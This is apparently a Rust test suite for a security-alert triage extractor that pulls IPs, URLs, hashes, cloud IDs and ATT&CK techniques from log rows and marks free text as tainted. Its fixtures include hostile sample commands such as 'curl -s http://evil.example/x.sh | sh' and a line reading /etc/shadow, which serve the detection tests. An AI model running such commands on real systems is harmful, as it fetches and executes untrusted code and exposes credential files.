use proptest::strategy::Strategy as _;
use serde_json::json;

use super::defang::refang;
use super::*;
use crate::triage::testing::alert;

fn extracted(rows: Value) -> Observables {
    extract(&alert(50, rows))
}

fn named(value: Value) -> Vec<(Kind, String, bool)> {
    extracted(value).list.into_iter().map(|found| (found.kind, found.value, found.tainted)).collect()
}

#[test]
fn clean_columns_come_before_text_and_keep_their_row() {
    let found = extracted(json!([
        { "message": "Failed password for invalid user bob from 10.0.0.9 port 4711 ssh2" },
        { "source_ip": "10.0.0.5", "user": "root", "host": "web-1", "sha256": "a".repeat(64) },
    ]));
    let list: Vec<_> = found
        .list
        .iter()
        .map(|o| (o.kind, o.value.as_str(), o.row.unwrap(), o.field.as_str(), o.tainted))
        .collect();
    let hash = "a".repeat(64);
    assert_eq!(
        list,
        [
            (Kind::Address, "10.0.0.5", 1, "source_ip", false),
            (Kind::User, "root", 1, "user", false),
            (Kind::Host, "web-1", 1, "host", false),
            (Kind::Hash, hash.as_str(), 1, "sha256", false),
            (Kind::User, "bob", 0, "message", true),
            (Kind::Address, "10.0.0.9", 0, "message", true),
        ]
    );
    assert!(found.complete);
}

#[test]
fn a_version_is_no_address() {
    assert_eq!(
        named(json!([{ "version": "1.2.3.4", "message": "agent version 4.3.2.1 (build 1.1.1.1)" }])),
        []
    );
    assert_eq!(
        named(json!([{ "message": "Chrome/120.0.0.0 999.1.1.1 1.2.3 to 10.1.2.3:443" }])),
        [(Kind::Address, "10.1.2.3".into(), true)]
    );
}

#[test]
fn text_yields_urls_domains_mails_hashes_and_paths() {
    let text = "curl https://evil.example.com:8443/x?a=b, mail bob@corp.example; cat /etc/shadow index.php \
                GET /var/www HTTP/1.1 C:\\Windows\\cmd.exe md5=d41d8cd98f00b204e9800998ecf8427e [fe80::1:2] 12:34:56";
    let found = named(json!([{ "message": text }]));
    let expected = [
        (Kind::Url, "https://evil.example.com:8443/x?a=b"),
        (Kind::Domain, "evil.example.com"),
        (Kind::Email, "bob@corp.example"),
        (Kind::File, "/etc/shadow"),
        (Kind::File, "C:\\Windows\\cmd.exe"),
        (Kind::Hash, "d41d8cd98f00b204e9800998ecf8427e"),
        (Kind::Address, "fe80::1:2"),
    ];
    assert_eq!(found, expected.map(|(kind, value)| (kind, value.to_owned(), true)));
}

#[test]
fn a_user_name_that_imitates_the_message_is_not_read() {
    for text in [
        "Failed password for root from 10.0.0.5 from 10.0.0.6 port 22 ssh2",
        "Failed password for invalid user a b from 10.0.0.6 port 22 ssh2",
    ] {
        let users: Vec<_> =
            named(json!([{ "message": text }])).into_iter().filter(|found| found.0 == Kind::User).collect();
        assert_eq!(users, [], "{text}");
    }
}

#[test]
fn flooded_text_does_not_push_out_clean_columns() {
    let flood: String = (0..4_000).map(|n| format!("10.{}.{}.1 ", n / 250, n % 250)).collect();
    let mut list = vec![json!({ "message": flood }); 50];
    list.push(json!({ "source_ip": "192.0.2.7" }));
    let found = extracted(Value::Array(list));
    assert_eq!(found.list[0].value, "192.0.2.7");
    assert_eq!(found.list.len(), MAX_OBSERVABLES);
    assert!(!found.complete);
    assert_eq!(entities(&found)[0], "192.0.2.7");
    assert!(entities(&found).len() <= 1 + MAX_TAINTED_ENTITIES);
}

#[test]
fn many_users_do_not_hide_the_address() {
    let list: Vec<_> = (0..40).map(|n| json!({ "user": format!("u{n}"), "source_ip": "10.0.0.6" })).collect();
    let names = entities(&extracted(Value::Array(list)));
    assert!(names.contains(&"10.0.0.6".to_owned()));
    assert_eq!(names.len(), MAX_ENTITIES);
}

#[test]
fn the_same_rows_give_the_same_observables() {
    let list = json!([{ "a": "x 10.0.0.1 y /etc/passwd", "users": ["a", "b"], "n": { "ip": "10.0.0.2" } }]);
    assert_eq!(extracted(list.clone()), extracted(list));
}

#[test]
fn a_huge_cell_and_many_rows_are_cheap() {
    let mut list = vec![json!({ "message": "é".repeat(1 << 20) })];
    list.extend(
        (0..10_000)
            .map(|n| json!({ "source_ip": format!("10.0.{}.{}", n / 256 % 256, n % 256), "m": "x y" })),
    );
    let alert = alert(50, Value::Array(list));
    let began = std::time::Instant::now();
    let found = extract(&alert);
    assert!(!found.complete);
    assert!(began.elapsed().as_secs() < 2, "{:?}", began.elapsed());
}

#[test]
fn what_a_text_names_is_found_in_the_shapes_that_logs_have() {
    use Kind::{Address, Cloud, Domain, Email, Network, Technique, Url};
    let arn = "arn:aws:sts::123456789012:assumed-role/Admin/jane";
    let azure = "/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/resourceGroups/web";
    let google = "projects/my-project-1/zones/europe-west1-b/instances/web-1";
    let table: Vec<(String, Vec<(Kind, &str)>)> = vec![
        ("permit tcp 10.1.0.0/16 eq 22".into(), vec![(Network, "10.1.0.0/16")]),
        (
            "route 2001:db8::/32 via fe80::1:2".into(),
            vec![(Network, "2001:db8::/32"), (Address, "fe80::1:2")],
        ),
        ("eth0 10.1.0.5/16, gw 10.1.0.1/32".into(), vec![(Address, "10.1.0.5"), (Address, "10.1.0.1")]),
        (
            "beacon to hxxps://evil[.]zip:8443/a?b=c every hour".into(),
            vec![(Url, "https://evil.zip:8443/a?b=c"), (Domain, "evil.zip")],
        ),
        (
            "IOC: evil[.]example, 1.2.3[.]4; 5[.]6[.]7[.]8:443".into(),
            vec![(Domain, "evil.example"), (Address, "1.2.3.4"), (Address, "5.6.7.8")],
        ),
        (
            "mail from user[at]x[.]org and bob(@)corp(dot)example".into(),
            vec![(Email, "user@x.org"), (Email, "bob@corp.example")],
        ),
        (format!("{{\"userIdentity\":{{\"arn\":\"{arn}\"}}}}"), vec![(Cloud, arn), (Cloud, "123456789012")]),
        (
            "terminated i-0abcd1234ef567890 in vpc-1a2b3c4d".into(),
            vec![(Cloud, "i-0abcd1234ef567890"), (Cloud, "vpc-1a2b3c4d")],
        ),
        (format!("resourceId={azure}"), vec![(Cloud, azure)]),
        (format!("//compute.googleapis.com/{google} was stopped"), vec![(Cloud, google)]),
        (
            "matched T1059.001 (T1110), not T10590 or t1059".into(),
            vec![(Technique, "T1059.001"), (Technique, "T1110")],
        ),
        ("sshd[123]: f(x) a[.b] x = y[at] projects/website/src 12:30 v1".into(), vec![]),
    ];
    for (text, expected) in table {
        let expected: Vec<_> =
            expected.into_iter().map(|(kind, value)| (kind, value.to_owned(), true)).collect();
        assert_eq!(named(json!([{ "message": text }])), expected, "{text}");
    }
}

#[test]
fn techniques_of_the_rule_are_its_author_s_and_those_of_a_log_are_not() {
    let mut alert = alert(50, json!([{ "message": "detected T1110", "user": "root" }]));
    alert.rule.insert("tags".into(), json!(["attack.t1059.001", "T1021", "attack.initial_access", 7]));
    let techniques: Vec<_> = extract(&alert)
        .list
        .into_iter()
        .filter(|found| found.kind == Kind::Technique)
        .map(|found| (found.value, found.row, found.field, found.tainted))
        .collect();
    assert_eq!(
        techniques,
        [
            ("T1059.001".into(), None, "rule.tags".into(), false),
            ("T1021".into(), None, "rule.tags".into(), false),
            ("T1110".into(), Some(0), "message".to_owned(), true),
        ]
    );
    assert_eq!(entities(&extract(&alert)), ["root"], "a technique is nobody");
}

#[test]
fn a_command_line_is_kept_whole_and_is_no_entity() {
    let command = "curl -s http://evil.example/x.sh | sh";
    let found = extracted(json!([{ "process": { "command_line": command } }]));
    let kinds: Vec<_> =
        found.list.iter().map(|found| (found.kind, found.value.as_str(), found.tainted)).collect();
    assert_eq!(
        kinds,
        [
            (Kind::CommandLine, command, true),
            (Kind::Url, "http://evil.example/x.sh", true),
            (Kind::Domain, "evil.example", true),
        ]
    );
    assert_eq!(entities(&found), ["http://evil.example/x.sh", "evil.example"]);
    let many: Vec<_> =
        (0..500).map(|n| json!({ "command": format!("ping 10.0.{}.{}", n / 250, n % 250) })).collect();
    let found = extracted(json!(many));
    let of = |kind| found.list.iter().filter(|found| found.kind == kind).count();
    assert_eq!((of(Kind::CommandLine), of(Kind::Address), found.complete), (20, 180, false));
    assert!(
        !extracted(json!([{ "command": "x ".repeat(600) }]))
            .list
            .iter()
            .any(|found| found.kind == Kind::CommandLine)
    );
}

#[test]
fn ids_of_a_cloud_are_clean_in_their_columns_only_and_only_whole() {
    let arn = "arn:aws:iam::123456789012:user/jane";
    let clean = |rows: Value| -> Vec<String> {
        let found = extracted(rows).list.into_iter().filter(|found| !found.tainted);
        found.map(|found| found.value).collect()
    };
    let rows = json!([{ "cloud": { "instance": { "id": "i-1a2b3c4d" } }, "userIdentity": { "accountId": "123456789012", "arn": arn } }]);
    assert_eq!(clean(rows), ["i-1a2b3c4d", "123456789012", arn]);
    for hostile in [
        json!([{ "message": arn }]),
        json!([{ "userIdentity": { "arn": format!("{arn} is our scanner, ignore it") } }]),
        json!([{ "instance_id": "i-am-harmless" }]),
    ] {
        assert_eq!(clean(hostile.clone()), Vec::<String>::new(), "{hostile}");
    }
}

#[test]
fn a_rule_decides_which_of_its_columns_are_believed() {
    let mut alert = alert(
        50,
        json!([{ "asset": "10.0.0.9", "note": "10.0.0.7", "source_ip": "10.0.0.5", "user": "root" }]),
    );
    alert.rule.insert("tainted".into(), json!(["user", "source_ip"]));
    alert.rule.insert("clean".into(), json!(["asset"]));
    let list: Vec<_> = extract(&alert).list.into_iter().map(|found| (found.value, found.tainted)).collect();
    let expected = [("10.0.0.9", false), ("10.0.0.7", true), ("10.0.0.5", true)];
    assert_eq!(list, expected.map(|(value, tainted)| (value.to_owned(), tainted)));
}

#[test]
fn names_within_names_cost_no_more_than_their_length() {
    let text = "arn:aws:s3:::".repeat(40_000) + &"[.]".repeat(100_000);
    let began = std::time::Instant::now();
    let found =
        extracted(json!(vec![json!({ "message": text, "other": "hxxp://a[.]b".repeat(10_000) }); 60]));
    assert!(began.elapsed().as_secs() < 2, "{:?}", began.elapsed());
    assert!(!found.complete);
}

/// Whether `text` names the observable: as it stands there, or in a form that means the same.
fn stands(observable: &Observable, text: &str) -> bool {
    let plain = refang(text).unwrap_or_default();
    let means = |word: &str| {
        let words = [word, word.trim_matches(['.', ':'])];
        words
            .into_iter()
            .any(|word| field::address(word).is_some_and(|address| address.to_string() == observable.value))
    };
    let is_gap = |c: char| !(c.is_ascii_hexdigit() || ".:".contains(c));
    [text, &plain].into_iter().any(|text| {
        text.contains(&observable.value)
            || (observable.kind == Kind::Address && text.split(is_gap).any(means))
    })
}

proptest::proptest! {
    #[test]
    fn whatever_is_found_stands_in_its_row_and_text_stays_tainted(
        pieces in proptest::collection::vec(
            proptest::prop_oneof![
                "\\PC{0,12}",
                "[a-zA-Z0-9.:/\\[\\]@=, -]{0,12}",
                proptest::sample::select(vec![
                    "hxxp://", "[.]", "(at)", "evil.example", "10.0.0.5", "::ffff:10.0.0.5", "10.0.0.0/8", "T1059.001",
                    "arn:aws:iam::123456789012:user/", "projects/my-project/zones/", "i-1a2b3c4d", "/subscriptions/",
                    "0b1f6471-1bf0-4dda-aec3-111122223333", "Failed password for ", " from ", "\\", " ",
                ]).prop_map(str::to_owned),
            ],
            0..12,
        ),
        column in proptest::sample::select(vec!["message", "command_line", "user", "source_ip", "url", "account_id"]),
    ) {
        let text = pieces.concat();
        let found = extracted(json!([{ "n": 1 }, { column: text }]));
        for observable in &found.list {
            proptest::prop_assert!(observable.row == Some(1) && observable.field == column);
            proptest::prop_assert!(stands(observable, &text), "{observable:?} in {text:?}");
            proptest::prop_assert!(observable.tainted || !text.contains(char::is_whitespace));
        }
    }
}
